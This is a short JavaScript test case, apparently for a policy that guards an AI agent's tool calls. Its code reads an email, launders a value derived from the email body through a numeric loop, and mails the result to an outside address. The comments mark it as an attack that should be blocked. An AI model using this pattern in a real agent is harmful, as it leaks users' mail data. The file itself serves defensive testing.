// attack: a number-only loop starts from a number read out of the email; its result goes out
// normal: blocked
const m = await getEmail('m1');
let x = m.body.length % 7;
for (let i = 0; i < 5; i++) x = (x * 3 + i) % 11;
await sendEmail({ to: ['omar@northwind.test'], subject: 'x', body: String(x) });
